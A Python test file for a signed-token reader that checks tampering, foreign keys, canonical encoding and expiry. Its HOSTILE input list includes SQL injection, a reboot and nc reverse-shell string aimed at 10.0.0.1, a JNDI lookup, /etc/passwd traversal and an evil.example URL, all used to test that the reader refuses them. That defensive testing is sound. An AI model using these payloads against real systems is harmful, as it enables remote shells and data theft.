"""What a scanner reads: one spelling of what our server signed, and nothing else, however it is dressed up."""

import base64
import os
import string
from datetime import UTC, datetime, timedelta
from uuid import uuid4

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given, settings
from hypothesis import strategies as st

from gate import tokens
from gate.tokens import Foreign, Token, Unreadable

KEY = Ed25519PrivateKey.generate()
PUBLIC = KEY.public_key()
NOON = datetime(2026, 3, 2, 12, tzinfo=UTC)


def token(**also) -> Token:
    plain = {
        "kind": "qr",
        "credential": str(uuid4()),
        "issued": NOON,
        "expires": NOON + timedelta(hours=12),
        "serial": b"12345678",
    }
    return Token(**plain | also)


def signed(payload: bytes, *, label: bytes = tokens.LABEL, key=KEY) -> str:
    return f"LM1.{tokens._encode(payload)}.{tokens._encode(key.sign(label + payload))}"


def payload_of(text: str) -> bytes:
    return tokens._decode(text.split(".")[1])


seconds = st.integers(0, 2**32 - 2)


@given(
    kind=st.sampled_from(["qr", "pass"]),
    credential=st.uuids(),
    times=st.tuples(seconds, seconds).filter(lambda two: two[0] != two[1]).map(sorted),
    serial=st.binary(min_size=8, max_size=8),
    once=st.booleans(),
)
def test_it_says_what_was_written(kind, credential, times, serial, once):
    issued, expires = (datetime.fromtimestamp(each, UTC) for each in times)
    written = Token(kind, str(credential), issued, expires, serial, once)
    text = tokens.write(written, key=KEY)
    assert len(text) == tokens.LENGTH
    assert tokens.read(text, key=PUBLIC) == written


@pytest.mark.obligation("F20")
def test_a_signature_over_something_else_is_none():
    text = tokens.write(token(), key=KEY)
    payload = payload_of(text)
    for other in (b"", b"linmen qr v2\0", b"linmen template v1\0"):
        with pytest.raises(Foreign):
            tokens.read(signed(payload, label=other), key=PUBLIC)


@pytest.mark.obligation("F20")
def test_another_servers_code_is_foreign():
    text = tokens.write(token(), key=Ed25519PrivateKey.generate())
    with pytest.raises(Foreign):
        tokens.read(text, key=PUBLIC)


@given(position=st.integers(0, tokens.LENGTH - 1), letter=st.sampled_from(string.printable))
def test_no_letter_of_it_can_be_changed(position, letter):
    text = tokens.write(token(), key=KEY)
    bent = text[:position] + letter + text[position + 1 :]
    if bent != text:
        with pytest.raises((Unreadable, Foreign)):
            tokens.read(bent, key=PUBLIC)


def test_there_is_one_spelling():
    text = tokens.write(token(), key=KEY)
    head, payload, signature = text.split(".")
    alphabet = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"
    for part in (payload, signature):
        last = alphabet.index(part[-1])
        other = part[:-1] + alphabet[last | 1 if not last & 1 else last ^ 1]
        assert base64.urlsafe_b64decode(other + "==="[: -len(other) % 4]) is not None
        bent = f"{head}.{other if part is payload else payload}.{other if part is signature else signature}"
        with pytest.raises(Unreadable):
            tokens.read(bent, key=PUBLIC)
    for spelling in (
        f" {text}",
        f"{text}\n",
        text.lower(),
        f"{text}=",
        text.replace("LM1", "LM２"),
        text + text,
    ):
        with pytest.raises(Unreadable):
            tokens.read(spelling, key=PUBLIC)


@pytest.mark.parametrize(
    ("place", "value"),
    [(0, 0), (0, 2), (1, 0), (1, 3), (2, 2), (2, 255)],
    ids=["version 0", "version 2", "kind 0", "kind 3", "a flag", "all flags"],
)
def test_not_even_our_server_can_say_what_this_version_does_not_know(place, value):
    payload = bytearray(payload_of(tokens.write(token(), key=KEY)))
    payload[place] = value
    with pytest.raises(Unreadable):
        tokens.read(signed(bytes(payload)), key=PUBLIC)


def test_it_ends_after_it_began():
    with pytest.raises(Unreadable):
        tokens.read(tokens.write(token(expires=NOON), key=KEY), key=PUBLIC)
    with pytest.raises(ValueError, match="8 bytes"):
        tokens.write(token(serial=b"1"), key=KEY)


HOSTILE = [
    "",
    "LM1.",
    "LM1" + "." * 135,
    "LM1." + "A" * 134,
    "LM1." + "A" * 47 + "." + "A" * 86,
    "x" * 10_000_000,
    "'; DROP TABLE rows; --",
    "' OR '1'='1" + "A" * 127,
    "$(reboot)`id`|nc -e /bin/sh 10.0.0.1 4444;" + "A" * 96,
    "%s%s%n{0.__class__}${jndi:ldap://x}" + "A" * 103,
    "\x00" * 138,
    "\ud800" * 138,
    "../../../../etc/passwd" + "\x00" * 116,
    "http://evil.example/LM1." + "A" * 114,
    "ＬＭ１．" + "A" * 134,
    "LM1." + "é" * 47 + "." + "A" * 86,
    None,
    7,
    b"LM1.",
    {"LM1": 1},
    ["LM1."],
    True,
]


@pytest.mark.obligation("F20")
@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(str(text)[:24]))
def test_what_strangers_show_is_refused(text):
    with pytest.raises((Unreadable, Foreign)) as refused:
        tokens.read(text, key=PUBLIC)
    assert str(refused.value) == "", "nothing of it reaches a log"


@pytest.mark.obligation("F20")
@settings(max_examples=300)
@given(
    st.one_of(
        st.text(max_size=300),
        st.text(min_size=138, max_size=138),
        st.binary(min_size=99, max_size=99).map(
            lambda raw: f"LM1.{tokens._encode(raw[:35])}.{tokens._encode(raw[35:])}"
        ),
        st.from_regex(tokens._FORM, fullmatch=True),
    )
)
def test_nothing_made_up_is_read(text):
    with pytest.raises((Unreadable, Foreign)):
        tokens.read(text, key=PUBLIC)


def test_a_long_one_is_refused_before_anything_is_decoded(monkeypatch):
    monkeypatch.setattr(tokens, "_FORM", None)
    with pytest.raises(Unreadable):
        tokens.read(os.urandom(5_000_000).hex(), key=PUBLIC)
